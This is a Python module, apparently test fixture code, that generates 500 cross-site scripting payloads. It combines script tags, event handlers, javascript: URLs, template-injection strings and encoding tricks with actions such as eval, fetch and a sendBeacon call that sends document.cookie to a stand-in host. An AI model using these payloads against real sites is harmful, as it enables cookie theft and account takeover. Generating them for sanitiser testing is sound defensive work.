"""What somebody may write who wants it to run in the page of whoever reads it: 500 different texts.

Each tries to call `leak()`, to load something from elsewhere, or to break out of the place that it is shown in.
"""

from collections.abc import Iterator
from itertools import islice

ELSEWHERE = "https://leak.invalid"
"""No page of ours asks for anything there (RFC 6761: no name under `.invalid` exists)."""
COUNT = 500

_ACTS = (
    "leak()",
    f"fetch('{ELSEWHERE}/f')",
    f"new Image().src='{ELSEWHERE}/i'",
    f"location='{ELSEWHERE}/l'",
    f"navigator.sendBeacon('{ELSEWHERE}/b',document.cookie)",
    "window['le'+'ak']()",
    "eval('leak()')",
    "top.leak()",
    "setTimeout('leak()')",
    "import('data:text/javascript,leak()')",
)
_MARKUP = (
    "<script>{}</script>",
    "<ScRiPt >{}</ScRiPt >",
    "<script/x>{}</script>",
    '<img src=x onerror="{}">',
    "<img src=x onerror={}//",
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{}"><text y=9>x</text></a></svg>',
    '<body onload="{}">',
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">点我</a>',
    '<form action="javascript:{}"><button autofocus>提交</button></form>',
    '<input autofocus onfocus="{}">',
    '<details open ontoggle="{}">',
    '<video><source onerror="{}"></video>',
    '<audio src=x onerror="{}">',
    '<marquee onstart="{}">',
    '<select autofocus onfocus="{}">',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    '<div style="animation:x" onanimationstart="{}">',
    "<style>@import '{}';</style>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "</textarea><img src=x onerror={}>",
    "</title><img src=x onerror={}>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "`-{}-`",
    "';{}//",
    '";{}//',
    "\\';{}//",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{_openBlock.constructor('{}')()}}}}",
    "@:{{'x'.constructor.constructor('{}')()}}",
    "{{count}} | {} | @:app.title",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\u202e<script>{}</script>",
    "<\u200bscript>{}</script>",
    "＜script＞{}＜/script＞",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<!--<img src=x onerror={}>-->",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<base href=javascript:{}//>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/?{{}}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/?{{}}'>",
)


def payloads(count: int = COUNT) -> list[str]:
    """So many of them, each other than the others; the first ones differ most."""
    return list(islice(_all(), count))


def _all() -> Iterator[str]:
    for act in _ACTS:
        for markup in _MARKUP:
            yield markup.format(act)
